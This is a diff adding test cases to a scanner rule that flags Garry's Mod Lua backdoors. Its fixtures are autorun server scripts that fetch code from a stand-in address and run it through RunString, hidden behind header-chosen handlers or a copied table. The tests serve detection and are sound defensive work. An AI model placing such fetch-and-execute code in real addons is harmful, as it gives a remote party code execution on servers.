@@ -445,4 +445,37 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a web reply run by the handler its headers pick, through pcall', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local handlers = { motd = print, exec = RunString }',
+        'http.Post("http://203.0.113.48/announce.php", {}, function(body, len, headers, code)',
+        '  local h = handlers[string.lower(headers["X-Reply"] or "motd")]',
+        '  if h then pcall(h, body) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a sink taken from a copy of a table, then called with a web reply', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local STEPS = { RunString, "", "x" }',
+        'http.Fetch("http://203.0.113.48/p", function(body)',
+        '  local step = table.Copy(STEPS)',
+        '  step[2] = body',
+        '  local fn = table.remove(step, 1)',
+        '  fn(unpack(step))',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("a web reply's headers only printed (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'http.Fetch("https://example.com/v", function(body, len, headers) print(headers["Date"], #body) end)',
+    });
+    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
+  });
 });
